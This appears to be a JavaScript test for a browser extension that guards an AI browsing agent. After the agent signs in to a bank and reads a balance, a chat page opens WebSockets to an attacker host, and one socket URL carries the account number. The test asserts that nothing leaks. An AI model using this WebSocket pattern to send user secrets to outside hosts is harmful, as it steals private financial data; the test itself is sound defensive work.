// A socket that a page opens with its first script, before it is known who is here: it fails as sockets do, and the page tries again.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { SECRETS, sceneOf } from '../attacks/attempt.mjs';
import { page, raw } from '../sites/html.mjs';
import { leaked } from '../sites/leaks.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { HOSTS } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const CHAT = 'chat.example';
/** `at`: where to, from the page's own address. */
const TALK = `<script>
  const at = decodeURIComponent(location.search.slice(4));
  const open = () => {
    const socket = new WebSocket(at);
    socket.onopen = () => { document.title = 'open'; };
    socket.onclose = () => setTimeout(open, 500);
  };
  open();
  document.documentElement.dataset.begun = 'yes';
</script>`;

test('a page opens a socket with its first script after a private read, and goes on; what was read leaves by none', {
  timeout: 90_000,
}, async () => {
  assert.ok(extension, 'nobody holds a socket without us');
  const chat = () => page({ title: 'Chat', name: 'Chat', head: raw(TALK), body: '' });
  const sites = await startSites({ extra: { [CHAT]: chat } });
  const hands = await playwrightHands({ extension, args: flagsFor(sites, [CHAT]) });
  const problems = [];
  hands.page.on('pageerror', (error) => problems.push(error.message));
  try {
    const scene = sceneOf(hands, sites);
    await signInToBank(hands, scene.world);
    await readBalance(hands, scene.memory);
    const talk = (to) => hands.goto(`http://${CHAT}/?at=${encodeURIComponent(to)}`);
    // Whether it is known by then who is here is a matter of milliseconds.
    for (let time = 0; time < 6; time += 1) {
      await hands.goto('about:blank');
      await talk(`ws://${CHAT}/room`);
      assert.deepEqual(problems, []);
      assert.equal(await hands.run('document.documentElement.dataset.begun'), 'yes');
    }
    await talk(`ws://${HOSTS.attacker}/room`);
    await until(async () => (await hands.page.title()) === 'open', 'the socket', 10_000);
    await talk(`ws://${HOSTS.attacker}/room?d=${encodeURIComponent(SECRETS['account number'])}`);
    await hands.wait(2_500);
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
  } finally {
    await hands.close();
    await sites.close();
  }
});
